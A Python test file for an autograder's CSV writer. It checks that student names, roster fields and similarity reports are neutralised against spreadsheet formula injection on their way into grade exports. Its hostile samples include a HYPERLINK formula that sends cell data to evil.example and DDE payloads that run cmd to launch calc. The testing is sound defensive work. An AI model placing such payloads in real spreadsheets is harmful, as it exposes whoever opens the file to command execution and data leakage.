"""No CSV the kit writes holds a cell a spreadsheet would run (autograder.csvfile).

Hostile names reach the kit from everywhere a student or an LMS writes one: Moodle's folder names,
Gradescope's metadata, the rosters' name and email columns, a student's function names in the
similarity report. Each form a spreadsheet runs (a leading `=`, `+`, `-`, `@`, tab or carriage return,
and the same after a `;` for a spreadsheet that splits there) is sent through every CSV: handins.csv,
grades.csv, similarity.csv, gradebook.csv (merge-report) and the four exports; every cell of every
file must be inert, and the honest names next to them must come out unchanged.
"""
import csv
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder import export, report_merge, similarity
from autograder.csvfile import FORMULA_STARTS, is_safe, neutral, restore, write_csv
from autograder.handins import HANDINS_CSV, discover
from autograder.pipeline.write import write_gradebook, write_submission
from autograder.results import zero_result
from lms_class import SAMPLES

# The forms of OWASP's "CSV Injection", and Moodle's own clean_filename leaves each of the first four.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bob")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "Martin;=1+1", "  =1+1", "Dupont\t=1+1", "Dupont;\r@A1"]
FOLDER_SAFE = ["=SUM(A1)", "@SUM(A1)", "+1+cmd", "-2+3"]  # what a folder name can hold, and Moodle keeps
HONEST = ["Zoé Lefèvre", "D'Angelo Smith-Jones", "-5", "Noël"]


def cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def assert_inert(path):
    bad = [c for c in cells(path) if not is_safe(c)]
    assert bad == [], f"{path.name} holds cells a spreadsheet runs: {bad}"


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r; ',.aé1")), max_size=14) | st.text(max_size=20))
def test_every_text_becomes_an_inert_cell_and_comes_back(text):
    cell = neutral(text)
    assert is_safe(cell)
    assert restore(cell) == text


def test_the_neutral_cells():
    assert [neutral(x) for x in HOSTILE] == [
        "'" + HOSTILE[0], "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0",
        "'\t'=1+1", "'\r=1+1", "Martin;'=1+1", "'  =1+1", "Dupont\t'=1+1", "Dupont;'\r@A1"]
    assert [neutral(x) for x in HONEST + [-2.5, 82.5, None, "1e3"]] == HONEST + ["-2.5", "82.5", "", "1e3"]
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_write_csv_is_atomic_and_neutral(tmp_path):
    path = write_csv(tmp_path / "x.csv", ["a", "=b"], [[HOSTILE[0], 1.5]])
    assert path.read_bytes() == b"a,'=b\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bob\"\")\",1.5\r\n"
    write_csv(path, ["a"], [["x\ry"]])  # a bare CR is quoted: no spreadsheet starts a row there
    assert path.read_bytes() == b'a\r\n"x\ry"\r\n'
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]


@pytest.fixture()
def hostile_class(tmp_path):
    """A Moodle download whose folders carry the names a folder can hold, a Gradescope export whose
    metadata carries every form, and rosters whose name and email columns carry them: discovered,
    graded as `grade` writes it, merged with report scores."""
    moodle = tmp_path / "moodle"
    for i, name in enumerate(FOLDER_SAFE + HONEST[:2]):
        folder = moodle / f"{name}_{1234600 + i}_assignsubmission_file"
        folder.mkdir(parents=True)
        (folder / "tp1_ab.ipynb").write_bytes((SAMPLES / "unfilled.ipynb").read_bytes())
    gradescope = tmp_path / "gradescope"
    gradescope.mkdir()
    people = HOSTILE + HONEST
    (gradescope / "submission_metadata.yml").write_text("".join(
        f"submission_{i}:\n  :submitters:\n  - :name: {json.dumps(name)}\n    :sid: '{3000 + i}'\n"
        f"    :email: s{i}@uni.example\n" for i, name in enumerate(people)), encoding="utf-8")
    for i in range(len(people)):
        (gradescope / f"submission_{i}").mkdir()
        (gradescope / f"submission_{i}" / "tp1_ab.ipynb").write_bytes((SAMPLES / "unfilled.ipynb").read_bytes())
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:  # the kit's roster, written by a spreadsheet
        w = csv.writer(f)
        w.writerow(["id", "name", "email", "idnumber", "section"])
        for i, name in enumerate(people):
            w.writerow([f"s{i}", name, f"s{i}@uni.example", f"{3000 + i}", HOSTILE[i % len(HOSTILE)]])
        w.writerow(["s99", "=cmd|' /C calc'!A0", "=x@uni.example", "@1", "+G1"])
    outs = {}
    for lms, root in (("moodle", moodle), ("gradescope", gradescope)):
        d = discover([root], roster=roster if lms == "gradescope" else None)
        out = tmp_path / f"grades_{lms}"
        results = []
        for row in d.students:
            result = zero_result(row.id, row.path or "", "graded" if row.path else row.status, "", name=row.name)
            result.questions[0].score = 5.0
            write_submission(result, out)
            results.append(result)
        write_gradebook(results, out)
        d.write_csv(out / HANDINS_CSV)
        outs[lms] = (d, out)
    return outs, roster


def test_no_hostile_name_reaches_a_csv_unneutralised(hostile_class, tmp_path):
    outs, roster = hostile_class
    written = []
    for lms, (d, out) in outs.items():
        names = {r.name for r in d.students}
        # The names are read whole (Gradescope's yml and the roster's cells without their outer spaces).
        expected = (set(FOLDER_SAFE + HONEST[:2]) if lms == "moodle"
                    else {n.strip() for n in HOSTILE + HONEST} | {"=cmd|' /C calc'!A0"})
        assert names == expected
        scores = tmp_path / f"scores_{lms}.csv"
        scores.write_text("submission," + ",".join(f"Q{i}" for i in range(1, 18)) + "\n"
                          + "".join(f"{r.id}," + ",".join(["1"] * 17) + "\n" for r in d.students if r.path))
        assert report_merge.main([str(out / "grades.csv"), str(scores), "--out", str(out / "gradebook.csv")]) == 0
        for to in export.SYSTEMS:
            export.main(["--to", to, str(out), "--roster", str(roster), "--out", str(out / f"export_{to}")])
        written += sorted(out.rglob("*.csv"))
    report = similarity.compare_class({h: ["def forward(p, X):\n    return X\n"] for h in HOSTILE[:3]}, [])
    similarity.write_csv(report, tmp_path / "similarity.csv")
    written.append(tmp_path / "similarity.csv")
    kinds = {re.sub(r"grades_\w+/|export_[\w-]+/", "", p.relative_to(tmp_path).as_posix()) for p in written}
    assert kinds == {"grades.csv", "handins.csv", "gradebook.csv", "similarity.csv", "moodle_grading_worksheet.csv",
                     "moodle_grades.csv", "canvas_grades.csv", "gradescope_scores.csv"}
    for path in written:
        assert_inert(path)
    # The names an LMS shows come out as given, behind the one apostrophe a spreadsheet reads as "text".
    _, out = outs["gradescope"]
    shown = cells(out / "export_gradescope-csv" / "gradescope_scores.csv")
    for name in HOSTILE + HONEST:
        assert neutral(name.strip()) in shown
    handins_cells = cells(out / HANDINS_CSV)
    assert {restore(c) for c in handins_cells} >= {n.strip() for n in HOSTILE + HONEST}


def test_similarity_csv_alone_neutralises_what_it_is_given(tmp_path):
    report = similarity.compare_class({"=a": ["def f(x):\n    return x\n"], "@b": ["def f(x):\n    return x\n"]}, [])
    path = tmp_path / "s.csv"
    similarity.write_csv(report, path)
    assert_inert(path)
    assert {restore(c) for c in cells(path)} >= {"=a", "@b"}


def test_the_kit_reads_its_own_cells_back(tmp_path):
    write_csv(tmp_path / "h.csv", ["id", "name"], [["a", HOSTILE[0]], ["b", "'=kept"]])
    _, records = export._read_csv(tmp_path / "h.csv", "the hand-ins list", ["id"])
    assert [r["name"] for _, r in records] == [HOSTILE[0], "'=kept"]
